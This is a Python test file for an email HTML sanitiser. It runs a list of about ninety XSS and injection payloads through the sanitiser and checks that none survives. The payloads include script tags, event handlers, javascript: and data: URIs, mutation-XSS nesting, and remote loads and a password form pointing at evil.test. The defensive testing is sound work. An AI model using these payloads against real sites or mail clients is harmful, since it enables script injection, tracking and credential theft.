"""Sanitised HTML: S1, S2, S4, S5, cases 39, 41, 117, 119."""

import time
from html.parser import HTMLParser

import pytest

from mail.parsing import parse
from mail.parsing.html import sanitise_html
from tests.mail.parsing.building import typed

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img src="cid:x" onload=alert(1)>',
    '<img/src="x"/onerror="alert(1)">',
    "<img src=x:x onerror=alert(1)//>",
    '<img alt="<img src=x onerror=alert(1)>">',
    '<img alt="\'><script>alert(1)</script>">',
    '<img title="--><img src=x onerror=alert(1)>">',
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=statusline#http://evil.test xlink:href=javascript:alert(1)>x</maction></math>",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<style><a title='</style><img src=x onerror=alert(1)>'></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><script>alert(1)</script></option></select>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.test/x'>x</a>",
    "<a href='/relative?x=1'>x</a>",
    "<a href='https://example.com' onclick=alert(1) target=_top ping=https://evil.test style=position:fixed>x</a>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=https://evil.test></frameset>",
    "<object data=https://evil.test/x.swf></object>",
    "<embed src=https://evil.test/x.swf>",
    "<applet code=x></applet>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/x)}</style>",
    "<div style='background:url(https://evil.test/x.png)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<body background=https://evil.test/x.png onload=alert(1)>x</body>",
    "<table background=https://evil.test/x.png><tr><td background=https://evil.test/y.png>x</table>",
    "<input type=image src=https://evil.test/x.png onfocus=alert(1) autofocus>",
    "<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<video src=https://evil.test/x.mp4 poster=https://evil.test/x.png onerror=alert(1)></video>",
    "<audio src=https://evil.test/x.mp3 autoplay></audio>",
    "<picture><source srcset=https://evil.test/x.png><img srcset='https://evil.test/y.png 2x'></picture>",
    "<img src=https://evil.test/pixel.png width=1 height=1>",
    "<img src=//evil.test/pixel.png>",
    "<img src=http://127.0.0.1/admin>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img lowsrc=https://evil.test/x.png dynsrc=https://evil.test/y.png>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1) class=btn id=login-form name=x>x</div>",
    "<a id=csrf name=csrf href=https://example.com>x</a>",
    "<p class='nav danger' style=display:none>x</p>",
    "<isindex action=javascript:alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>x</x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<b onclick=alert(1)//<b>x",
    "<a href=https://example.com/\"onmouseover=\"alert(1)>x</a>",
    "<blockquote type=cite cite='javascript:alert(1)' class='gmail_quote evil' style='border-left:url(//x.test)'>x",
    "<div id=appendonsend class='yahoo_quoted evil' style='border:none;border-top:solid #E1E1E1 1.0pt'>x</div>",
    "<img src=\"https://evil.test/?&quot; onerror=alert(1) x=&quot;\">",
    "&#xE000;<img src=https://evil.test/x>&#xE001;",
]  # fmt: skip

ALLOWED = {
    "dir", "lang", "title", "href", "rel", "src", "data-src", "alt", "width", "height", "align", "valign", "border",
    "cellpadding", "cellspacing", "colspan", "rowspan", "span", "start", "value",
}  # fmt: skip


FORBIDDEN = {
    "script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "link", "meta", "base", "video",
    "audio", "button", "textarea", "select",
}  # fmt: skip


class Dangers(HTMLParser):
    """Everything in a piece of HTML that could run, load or disguise."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "svg",
            "math",
            "link",
            "meta",
            "base",
            "video",
            "audio",
        }:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ALLOWED:
                self.found.append(f"{tag} {name}")
            if name == "src" and not (value or "").startswith("cid:"):
                self.found.append(f"{tag} src={value}")
            if name == "href" and not (value or "").startswith(("http://", "https://", "mailto:")):
                self.found.append(f"{tag} href={value}")


def dangers(html: str) -> list[str]:
    parser = Dangers()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s1_nothing_that_runs_loads_or_disguises_survives(payload: str) -> None:
    clean, _ = sanitise_html(f"<p>before</p>{payload}<p>after</p>")

    assert dangers(clean) == []
    assert sanitise_html(clean)[0] == clean


def test_s1_the_oracle_of_these_tests_sees_dangers() -> None:
    assert dangers("<img src=https://evil.test/x onerror=alert(1)><a href='javascript:1'>x</a>") == [
        "img src=https://evil.test/x",
        "img onerror",
        "a href=javascript:1",
    ]


@pytest.mark.parametrize(
    ("source", "clean", "images"),
    [
        ('<img src="https://example.com/a.png" alt="A">', '<img data-src="https://example.com/a.png" alt="A">', 1),
        ('<img src="//example.com/a.png">', '<img data-src="https://example.com/a.png">', 1),
        ('<img src="cid:a@b">', '<img src="cid:a@b">', 0),
        (
            "<img src='http://a.test/1'><img src='http://a.test/2'>",
            '<img data-src="http://a.test/1"><img data-src="http://a.test/2">',
            2,
        ),
        ("<img data-src='javascript:1'><img data-src='/x'>", "<img><img>", 0),
        ("<img data-src='//a.test' src='https://a.test/2'>", '<img data-src="https://a.test/2">', 1),
        ("<img src='/a.png' width=5%><img width='1;x'>", '<img width="5%"><img>', 0),
    ],
)
def test_case_119_remote_images_are_counted_and_make_no_request(source: str, clean: str, images: int) -> None:
    """S5: `data-src` loads nothing; a click may turn it into a request through a proxy."""
    assert sanitise_html(source) == (clean, images)
    assert sanitise_html(clean) == (clean, images)


def test_links_open_without_referrer_or_opener() -> None:
    clean, _ = sanitise_html('<a href="https://example.com/?a=1&amp;b=2" rel="opener" target="_self">x</a>')

    assert clean == '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'


def test_letters_keep_their_shape() -> None:
    table = '<table><tbody><tr><td colspan="2">y</td></tr></tbody></table>'
    source = f'<h2>Title</h2><p>a <b>b</b><br>c</p><ol start="3"><li>x</li></ol>{table}'

    assert sanitise_html(source) == (source, 0)


def test_the_count_of_remote_images_reaches_the_parsed_mail() -> None:
    parsed = parse(typed("text/html", "<img src=https://evil.test/1><img src=https://evil.test/2><p>x</p>"))

    assert parsed.remote_images == 2
    assert "evil.test" not in parsed.text


def test_case_39_six_thousand_links_are_shown_in_less_than_two_seconds() -> None:
    source = '<p><a href="https://example.com/">word</a></p>' * 6_000
    started = time.process_time()

    parsed = parse(typed("text/html", source))

    assert time.process_time() - started < 2
    assert parsed.html is not None
    assert parsed.html.count("<a ") == 6_000
    assert parsed.text.split().count("word") == 6_000


def test_case_39_html_too_deep_or_large_to_show_keeps_words_and_original() -> None:
    source = "<div>" * 30_000 + "All the words<script>not these</script>"

    parsed = parse(typed("text/html", source))

    assert parsed.html is None
    assert parsed.text == "All the words"
    assert [(file.name, file.content_type, file.data) for file in parsed.attachments] == [
        ("message.html", "text/html", source.encode())
    ]


def test_case_42_text_before_the_html_document_is_kept() -> None:
    parsed = parse(
        typed("text/html", "First words<br><html><head><title>t</title></head><body>Second words</body></html>")
    )

    assert parsed.text.split() == ["First", "words", "Second", "words"]


def test_case_69_numbers_in_attributes_and_pictures_are_no_words_of_the_mail() -> None:
    source = (
        '<a href="https://x.test/#1001" title="[#1001]">page</a><img src="cid:1001" alt="[#1001]"><!-- [#1001] --> text'
    )

    parsed = parse(typed("text/html", source))

    assert parsed.text.split() == ["page", "text"]


def test_nested_tables_of_newsletters_become_readable_text() -> None:
    source = "<table><tr><td><table><tr><td>Left</td><td>Right</td></tr></table></td></tr></table>" * 3

    assert parse(typed("text/html", source)).text.split() == ["Left", "Right"] * 3


def test_a_table_that_lays_out_a_page_becomes_lines_of_ordinary_width() -> None:
    letter = "word " * 400
    source = f"<table><tr><td><p>{letter}</p></td><td>Side</td></tr><tr><td>a</td><td>b</td></tr></table>"

    text = parse(typed("text/html", source)).text

    assert text.split() == [*letter.split(), "Side", "a", "b"]
    assert max(len(line) for line in text.split("\n")) < len(letter) + 20
    assert "   " not in text


def test_both_ways_to_text_find_the_same_words() -> None:
    """Small documents go through inscriptis, large ones through our scan."""
    source = (
        "<h1>Title</h1><p>Hello   <b>you</b>,<br>line</p><ul><li>one<li>two</ul><table><tr><td>a<td>b<tr><td>c</table>"
        "<pre>  code\n    x</pre><div>1 &lt; 2</div><div>three</div>"
        "<blockquote type=cite>old<br>words</blockquote><p>end"
    )
    small = parse(typed("text/html", source)).text
    large = parse(typed("text/html", source + "<table>" + "<tr><td>cell" * 1_100 + "</table>")).text

    assert [word for word in large.split() if word not in ("cell", "*")] == small.replace("*", " ").split()
    assert "> old\n> words" in large
    assert "    x" in large


def test_words_nested_deeper_than_the_reader_goes_are_all_there() -> None:
    source = "".join(f"<div>w{number} " for number in range(600))

    assert parse(typed("text/html", source)).text.split() == [f"w{number}" for number in range(600)]
